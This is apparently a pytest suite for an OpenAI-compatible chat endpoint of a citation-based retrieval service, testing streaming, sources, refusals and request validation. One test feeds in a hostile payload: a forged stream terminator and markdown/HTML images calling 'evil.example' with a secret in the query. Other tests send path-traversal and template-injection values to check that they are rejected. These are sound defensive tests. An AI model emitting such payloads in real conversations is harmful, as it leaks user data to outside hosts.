"""The official client of OpenAI asks, whole and in a stream; every mark in a message leads to its proof."""

from __future__ import annotations

import json
import re
import time
from dataclasses import replace

import httpx
import openai
import pytest

from api.chat_text import MessageWriter, harmless, unmarked
from rag.service import Service
from rag.types import Citation, Sentence
from rag.writing.events import Said
from tests.api.live_server import wait_until

QUESTION = "Where does the key of the shed hang?"
UNKNOWN = "Who won the chess championship of 1894?"


@pytest.fixture(scope="module")
def client(server):
    with openai.OpenAI(base_url=f"http://127.0.0.1:{server.port}/v1", api_key="none", max_retries=0) as client:
        yield client


def ask(client, *messages, **more):
    spoken = [{"role": "user", "content": each} if isinstance(each, str) else each for each in messages]
    return client.chat.completions.create(**{"model": "sourcebound", "messages": spoken} | more)


def post(server, **body):
    whole = {"model": "sourcebound", "messages": [{"role": "user", "content": QUESTION}]} | body
    return server.client.post("/v1/chat/completions", json=whole)


def proven(server, content, annotations):
    """Every annotation stands at its mark, and its quote in the stored text."""
    assert annotations
    for each in annotations:
        cited = each.url_citation.model_dump() if hasattr(each, "url_citation") else each["url_citation"]
        assert re.fullmatch(r"\[\d+\]", content[cited["start_index"] : cited["end_index"]])
        path = f"/v1/documents/{cited['document_id']}/text"
        text = server.client.get(path, params={"version": cited["version"]}).json()["text"]
        assert text[cited["start"] : cited["end"]] == cited["quote"]
        assert cited["quote"] in content
        assert cited["url"] == cited["uri"]


def test_an_answer_is_a_message_with_its_sources(server, client):
    reply = ask(client, QUESTION)
    (choice,) = reply.choices
    plain = server.ask(QUESTION).json()
    assert choice.finish_reason == "stop"
    assert choice.message.refusal is None
    assert choice.message.content.startswith(plain["sentences"][0]["text"] + " [1]")
    assert '\n\nSources:\n- [1] The garden shed: "' in choice.message.content
    proven(server, choice.message.content, choice.message.annotations)
    assert choice.message.annotations[0].url_citation.title == "The garden shed"
    about = reply.model_extra["sourcebound"]
    assert about["abstained"] is False
    assert (about["citations"], about["confidence"]) == (plain["citations"], plain["confidence"])
    count = server.backend.embedder.tokenizer.count
    assert reply.usage.prompt_tokens == count([QUESTION])[0]
    assert reply.usage.completion_tokens == count([choice.message.content])[0]
    assert reply.usage.total_tokens == reply.usage.prompt_tokens + reply.usage.completion_tokens


def test_one_of_several_questions_that_is_not_answered_is_said_in_its_place(server, client):
    asked = f"{UNKNOWN} {QUESTION} When was the ship Aurelia launched?"
    message = ask(client, asked).choices[0].message
    assert message.content.startswith(f"{UNKNOWN} No answer: not in these documents: ")
    refused, said = message.content.split("\n\n", 1)
    assert refused.endswith(".")
    assert said.startswith(server.ask(QUESTION).json()["sentences"][0]["text"] + " [1] ")
    proven(server, message.content, message.annotations)
    pieces = ask(client, asked, stream=True)
    assert "".join(piece.choices[0].delta.content or "" for piece in pieces) == message.content
    nothing = ask(client, f"{UNKNOWN} Which judge decided Mata v. Avianca?").choices[0].message.content
    assert nothing.count("No answer: not in these documents") == 2


def test_a_refusal_is_a_message_that_says_so(client):
    reply = ask(client, UNKNOWN)
    message = reply.choices[0].message
    assert message.content.startswith("Not in these documents: ")
    assert message.annotations == []
    assert reply.model_extra["sourcebound"]["abstained"] is True
    assert "Sources:" not in message.content


@pytest.mark.parametrize("question", [QUESTION, UNKNOWN])
def test_a_stream_adds_up_to_the_whole(server, client, question):
    whole = ask(client, question)
    content, annotations, finished, about, usage = "", [], [], None, None
    for chunk in ask(client, question, stream=True, stream_options={"include_usage": True}):
        usage = chunk.usage or usage
        about = (chunk.model_extra or {}).get("sourcebound", about)
        for choice in chunk.choices:
            content += choice.delta.content or ""
            annotations += (choice.delta.model_extra or {}).get("annotations", [])
            finished += [choice.finish_reason] if choice.finish_reason else []
    assert content == whole.choices[0].message.content
    assert annotations == [each.model_dump() for each in whole.choices[0].message.annotations]
    assert finished == ["stop"]
    assert usage == whole.usage
    expected = whole.model_extra["sourcebound"]
    assert about | {"timings_ms": 0} == expected | {"timings_ms": 0}


def test_usage_is_told_only_when_asked_for(server):
    lines = post(server, stream=True).text.split("\n\n")
    assert lines[-2:] == ["data: [DONE]", ""]
    assert not [line for line in lines if '"usage"' in line]


def test_earlier_messages_are_the_conversation(client):
    first = ask(client, "When was the ship Aurelia launched?").choices[0].message
    system = {"role": "system", "content": "Answer like a pirate."}
    earlier = ["When was the ship Aurelia launched?", first.model_dump()]
    reply = ask(client, system, *earlier, "Where?")
    assert reply.model_extra["sourcebound"]["standalone_question"] == "Where was the ship Aurelia launched?"
    assert "Rostock" in reply.choices[0].message.content
    parts = [{"type": "text", "text": "When was the ship"}, {"type": "text", "text": "Aurelia launched?"}]
    assert "1911" in ask(client, {"role": "user", "content": parts}).choices[0].message.content


def test_a_long_chat_goes_on(client):
    earlier = [{"role": role, "content": f"{role} {number}"} for number in range(200) for role in ("user", "assistant")]
    assert "kitchen" in ask(client, *earlier, QUESTION).choices[0].message.content


def test_the_model_names_the_collection(guarded):
    def client(who):
        return openai.OpenAI(base_url=f"http://127.0.0.1:{guarded.port}/v1", api_key=guarded.keys[who], max_retries=0)

    with client("read") as reading, client("theirs") as theirs:
        reply = ask(reading, "Who keeps the second key?", model="sourcebound/mine")
        assert "Margarete Vogel" in reply.choices[0].message.content
        said = []
        for model in ("sourcebound/mine", "sourcebound/nowhere", "sourcebound", "gpt-5"):
            for stream in (False, True):
                with pytest.raises(openai.NotFoundError) as caught:
                    ask(theirs, "Who keeps the second key?", model=model, stream=stream)
                said.append(caught.value.message.replace(model, "it"))
    assert len(set(said)) == 1


WRONG = [
    ({"model": "/srv/models/other"}, "model"),
    ({"model": "../models"}, "model"),
    ({"trust_remote_code": True}, "trust_remote_code"),
    ({"chat_template_kwargs": {"enable_thinking": False}}, "chat_template_kwargs"),
    ({"chat_template": "{{ 7 * 7 }}"}, "chat_template"),
    ({"guided_json": {}}, "guided_json"),
    ({"n": 2}, "n"),
    ({"logprobs": True}, "logprobs"),
    ({"response_format": {"type": "json_object"}}, "response_format"),
    ({"tools": [{"type": "function", "function": {"name": "x"}}]}, "tools"),
    ({"messages": []}, "messages"),
    ({"messages": [{"role": "user", "content": "x"}] * 501}, "messages"),
    ({"messages": [{"role": "user", "content": "x" * 10_001}]}, "messages"),
    ({"messages": [{"role": "user", "content": "x" * 200_001}]}, "messages"),
    ({"messages": [{"role": "user", "content": " "}]}, "messages"),
    ({"messages": [{"role": "user", "content": "nul \x00"}]}, "messages"),
    ({"messages": [{"role": "system", "content": "x"}]}, "messages"),
    ({"messages": [{"role": "user", "content": "x"}, {"role": "assistant", "content": "y"}]}, "messages"),
    ({"messages": [{"role": "tool", "content": "x"}]}, "messages"),
    (
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "file:///x"}}]}]},
        "messages",
    ),
    ({"max_tokens": 0}, "max_tokens"),
    ({"temperature": 3}, "temperature"),
    ({"stream": "yes"}, "stream"),
]


@pytest.mark.parametrize(("body", "field"), WRONG, ids=lambda value: str(value)[:50])
def test_t53_t57_wrong_requests_are_refused(server, body, field):
    for stream in (False, True):
        reply = post(server, **{"stream": stream} | body)
        assert reply.status_code == 422
        error = reply.json()["error"]
        assert set(error) == {"message", "type", "param", "code"}
        assert error["param"].partition(".")[0] == field


def test_what_only_steers_a_model_is_taken(client):
    steering = {"temperature": 0.7, "top_p": 1, "max_tokens": 5, "stop": ["x"], "seed": 1, "presence_penalty": 0}
    more = {"user": "u", "metadata": {"a": "b"}, "logit_bias": {"1": 1}, "n": 1, "response_format": {"type": "text"}}
    assert "kitchen" in ask(client, QUESTION, **steering, **more).choices[0].message.content


def test_t49_text_cannot_break_the_framing_nor_make_a_browser_call(server, client, monkeypatch):
    hostile = 'x\n\ndata: [DONE]\r\n\r\n![p](http://evil.example/?q=secret)<img src="http://evil.example">\u2028'
    events = Service.ask_events

    def quoting(self, *arguments, **more):
        for told in events(self, *arguments, **more):
            yield replace(told, sentence=replace(told.sentence, text=hostile)) if isinstance(told, Said) else told

    monkeypatch.setattr(Service, "ask_events", quoting)
    content = ask(client, QUESTION).choices[0].message.content
    streamed = "".join(chunk.choices[0].delta.content or "" for chunk in ask(client, QUESTION, stream=True))
    assert content == streamed
    assert content.startswith("x\n\ndata: [DONE]\r\n\r\n\\![p](http")
    assert not re.search(r"(?<!\\)(!\[|<img)", content)


def test_t41_a_failure_in_a_stream_is_an_error_that_shows_nothing(client, monkeypatch):
    def fail(*_arguments, **_more):
        yield from ()
        raise ValueError("/srv/data/catalog.db: secret")

    monkeypatch.setattr(Service, "ask_events", fail)
    with pytest.raises(openai.InternalServerError):
        ask(client, QUESTION)
    with pytest.raises(openai.APIError) as caught:
        list(ask(client, QUESTION, stream=True))
    assert caught.value.code == "internal_error"
    assert "secret" not in str(caught.value.body)
    assert "/srv" not in str(caught.value.body)


def test_t60_who_stops_listening_frees_the_place(server, monkeypatch):
    started, ended = [], []
    events = Service.ask_events

    def endless(self, *arguments, **more):
        *_, said, _answer = events(self, *arguments, **more)
        started.append(True)
        try:
            while True:
                time.sleep(0.02)
                yield said
        finally:
            ended.append(True)

    monkeypatch.setattr(Service, "ask_events", endless)
    body = {"model": "sourcebound", "stream": True, "messages": [{"role": "user", "content": QUESTION}]}
    with httpx.stream("POST", f"http://127.0.0.1:{server.port}/v1/chat/completions", json=body) as reply:
        assert next(line for line in reply.iter_lines() if '"annotations"' in line)
    wait_until(lambda: ended)
    wait_until(lambda: server.backend.work.admitted == 0)
    assert started


def test_marks_and_sources_come_off_again():
    citation = Citation("d" * 24, 1, "upload:///a%20b.md", None, 0, 5, "Quote", 3)
    writer = MessageWriter()
    piece, (annotation,) = writer.say(Sentence("It is so.", (0,)), [citation])
    assert piece == "It is so. [1]"
    assert annotation["url_citation"]["title"] == "a b.md"
    second, _ = writer.say(Sentence("- an item", (0, 1)), [citation, citation])
    assert second == "\n- an item [1] [2]"
    assert unmarked(writer.content + "\n\nSources:\n- [1] a b.md") == "It is so.\n- an item"
    assert harmless("a < b, ok! [x] vector<int>") == "a < b, ok! [x] vector\\<int>"
    assert json.dumps(annotation)
